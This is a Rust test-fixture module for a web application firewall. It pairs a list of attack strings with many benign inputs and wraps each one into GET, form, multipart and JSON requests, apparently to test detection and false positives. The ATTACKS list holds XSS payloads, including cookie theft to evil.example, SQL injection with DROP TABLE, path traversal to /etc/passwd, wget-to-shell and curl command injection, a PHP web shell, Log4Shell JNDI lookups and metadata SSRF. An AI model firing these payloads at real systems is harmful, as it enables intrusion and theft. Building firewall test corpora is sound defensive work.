//! What attackers and people put into an argument, and the requests that carry it. All are our own, but those that
//! name their source.

use transom_waf::ftw::Request;

/// What attackers put into an argument.
pub(crate) const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(document.cookie)>",
    "javascript:alert(document.domain)",
    "<svg/onload=fetch('//evil.example/'+document.cookie)>",
    "1' or '1'='1",
    "1 UNION SELECT username, password FROM users--",
    "1; DROP TABLE users--",
    "1' and sleep(5)#",
    "admin'/**/or/**/1=1--",
    "1' or 1.e(1) or '1'='1",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "file:///etc/passwd",
    "C:\\windows\\win.ini/../../boot.ini",
    "; cat /etc/passwd",
    "| wget http://evil.example/x.sh -O- | sh",
    "$(curl http://evil.example/x)",
    "`id`; uname -a",
    "powershell.exe -enc SQBFAFgA",
    "<?php system($_GET['c']); ?>",
    "php://filter/convert.base64-encode/resource=index.php",
    "O:8:\"stdClass\":1:{s:4:\"test\";s:4:\"test\";}",
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    "java.lang.Runtime.getRuntime().exec('id')",
    "http://169.254.169.254/latest/meta-data/",
    "{{constructor.constructor('return process')().exit()}}",
    "require('child_process').exec('id')",
    "x\r\nSet-Cookie: a=b",
];

/// What people put into an argument.
pub(crate) const ORDINARY: &[&str] = &[
    "",
    "42",
    "hello world",
    "Margaret Atkinson",
    "margaret.atkinson@example.com",
    "+44 20 7946 0018",
    "17 Orchard Lane, Tunbridge Wells",
    "The delivery took a little longer than promised, but the driver was kind.",
    "Please select a chair from the list and order it by Friday.",
    "We had a union meeting; all of us voted.",
    "O'Brien",
    "more than 3 and less than 4",
    "50% off, this week only!",
    "What's new? A lot...",
    "price_asc",
    "2026-11-20T16:33:41Z",
    "https://shop.example.com/catalog/chairs?page=2",
    "f47ac10b-58cc-4372-a567-0e02b2c3d479",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9",
    "Gr\u{fc}\u{df}e aus K\u{f6}ln",
    "\u{65e5}\u{672c}\u{8a9e}",
    "C# and F# developers",
    "R&D department",
    "(see page 12)",
    "report-final_v2.pdf",
    "Dear Sir or Madam,\nthank you for your letter.\nYours",
    // Names, places and things, as shops and offices are told them.
    "Jos\u{e9} \u{c1}lvarez-Mu\u{f1}oz",
    "D'Angelo & Sons Ltd.",
    "\u{141}ukasz Wi\u{15b}niewski",
    "\u{10d}esk\u{e1} republika",
    "\u{43f}\u{440}\u{438}\u{432}\u{435}\u{442}, \u{43c}\u{438}\u{440}",
    "\u{5e9}\u{5dc}\u{5d5}\u{5dd}",
    "M\u{fc}ller-L\u{fc}denscheidt, Hans-J\u{fc}rgen",
    "Apartment 4B, 221 Baker Street, London NW1 6XE",
    "c/o Smith, P.O. Box 1234",
    "Rue de l'\u{c9}glise 12, 1050 Bruxelles",
    "Hauptstra\u{df}e 7 / 2. Stock links",
    "(555) 010-9999 ext. 12",
    "GB29 NWBK 6016 1331 9268 19",
    "DE136695976",
    "978-3-16-148410-0",
    "SKU-00412/B",
    "XXL, blue",
    "2 x 4 m, 18 mm thick",
    "1,299.00",
    "\u{20ac} 49,90",
    "20.11.2026 09:30",
    "Fri, 20 Nov 2026 16:33:41 +0000",
    "51.5074, -0.1278",
    "#1 fan!",
    "@anna: see you at 8 :-)",
    "100% cotton; machine wash at 40\u{b0}C",
    "5 stars *****",
    "Yes / No / Maybe",
    "a+b=c",
    "x^2 + y^2 = z^2",
    "AT&T",
    "Q&A: what's included?",
    "Ben & Jerry's",
    "rock 'n' roll",
    "\u{201c}Quoted\u{201d} and \u{2018}so on\u{2019} \u{2013} or not\u{2026}",
    // Searches.
    "garden chairs under 50",
    "how to select a good mattress",
    "best union of price and quality",
    "drop leaf table",
    "order by phone",
    "where to insert coin",
    "having a baby checklist",
    "cat and dog food",
    "group discount",
    "table for two or more",
    "like new laptop",
    "script fonts for wedding",
    "java coffee beans",
    "apple -iphone",
    "\"exact phrase\" hotel",
    "file cabinet",
    "echo dot 4",
    "system of a down",
    // Longer texts.
    "Hi,\n\nI ordered a table (no. 4711) last week, but it has not arrived yet. Could you please check?\n\nThanks,\nTom",
    "We'd like to book a room from 3 to 5 June; two adults, one child (age 4). Is breakfast included?",
    "The update broke the printer again. I've tried turning it off and on, no luck.",
    "Great product, but the manual is only in English. I would buy it again!",
    "Please delete my account and all data you have about me, as the law says.",
    "My password doesn't work anymore; I get \"invalid login\" each time.",
    "I agree with the terms & conditions.",
    "To whom it may concern: the invoice of 1 November (no. 2026-118) was paid twice.",
    "Ingredients: 2 eggs, 1/2 cup of sugar, a pinch of salt. Mix, then bake at 180 C for 25-30 minutes.",
    "Meeting notes:\n- budget: ok\n- hiring: two people, from January\n- next: 12 Dec., room 4",
    "Is it true that the warranty is void if I open the case? Asking for a friend...",
    "Sehr geehrte Damen und Herren, ich m\u{f6}chte meinen Vertrag zum 31.12. k\u{fc}ndigen. Mit freundlichen Gr\u{fc}\u{df}en",
    "Bonjour, je n'ai pas re\u{e7}u ma commande n\u{b0} 812. Pouvez-vous v\u{e9}rifier, s'il vous pla\u{ee}t ?",
    // Things that programs put into arguments.
    "true",
    "-1",
    "0.1",
    "1e3",
    "asc",
    "name,-price,created_at",
    "2026-11-20",
    "P1Y2M10DT2H30M",
    "en-GB",
    "Europe/Berlin",
    "#ff8800",
    "rgb(255, 136, 0)",
    "image/svg+xml",
    "v1.12.0-rc.3",
    "192.0.2.17",
    "2001:db8::17",
    "bGlnaHQgd29yay4=",
    "d41d8cd98f00b204e9800998ecf8427e",
    "utm_source=newsletter",
    "/catalog/chairs",
    "shop.example.com",
    "user-12345",
    "a,b,c",
    "{}",
    "[]",
    "{\"page\":2,\"filter\":{\"color\":\"blue\"}}",
    // RFC 3986 section 1.1.2, RFC 5322 appendix A, RFC 6749 section 4.1.2, RFC 7519 section 3.1, RFC 9110 section 5.
    "mailto:John.Doe@example.com",
    "tel:+1-816-555-1212",
    "urn:oasis:names:specification:docbook:dtd:xml:4.1.2",
    "\"Joe Q. Public\" <john.q.public@example.com>",
    "Pete(A nice \\) chap) <pete(his account)@silly.test(his host)>",
    "SplxlOBeZQQYbYS6WxSbIA",
    "eyJ0eXAiOiJKV1QiLA0KICJhbGciOiJIUzI1NiJ9.eyJpc3MiOiJqb2UiLA0KICJleHAiOjEzMDA4MTkzODAsDQogImh0dHA6Ly9leGFtcGxlLmNvbS9pc19yb290Ijp0cnVlfQ.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk",
    "text/html;level=2;q=0.4, */*;q=0.5",
];

fn headers(extra: &[(&str, &str)]) -> Vec<(Vec<u8>, Vec<u8>)> {
    let common = [
        ("Host", "shop.example.com"),
        ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        ("Accept-Language", "en-GB,en;q=0.5"),
        ("Accept-Encoding", "gzip, deflate, br"),
        ("Cookie", "sid=4f6c8e21a07b4d5e9c3a1b2d; theme=dark"),
    ];
    common
        .iter()
        .chain(extra)
        .map(|(name, value)| (name.as_bytes().to_vec(), value.as_bytes().to_vec()))
        .collect()
}

pub(crate) fn escape(text: &str) -> String {
    let byte = |byte: u8| match byte {
        b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' => char::from(byte).to_string(),
        _ => format!("%{byte:02X}"),
    };
    text.bytes().map(byte).collect()
}

/// The argument in a query, a form, a part of a multipart body and a member of a JSON body.
pub(crate) fn requests(argument: &str) -> Vec<Request> {
    let get = |uri: String| Request {
        method: b"GET".to_vec(),
        uri: uri.into_bytes(),
        version: b"HTTP/1.1".to_vec(),
        headers: headers(&[]),
        body: Vec::new(),
    };
    let post = |kind: &str, body: String| Request {
        method: b"POST".to_vec(),
        uri: b"/account/profile".to_vec(),
        version: b"HTTP/1.1".to_vec(),
        headers: headers(&[("Content-Type", kind), ("Content-Length", &body.len().to_string())]),
        body: body.into_bytes(),
    };
    let part =
        format!("--zz9\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n{argument}\r\n--zz9--\r\n");
    vec![
        get(format!("/catalog/search?q={}&page=2", escape(argument))),
        post("application/x-www-form-urlencoded", format!("name=x&note={}", escape(argument))),
        post("multipart/form-data; boundary=zz9", part),
        post("application/json", serde_json::json!({ "id": 7, "note": argument }).to_string()),
    ]
}
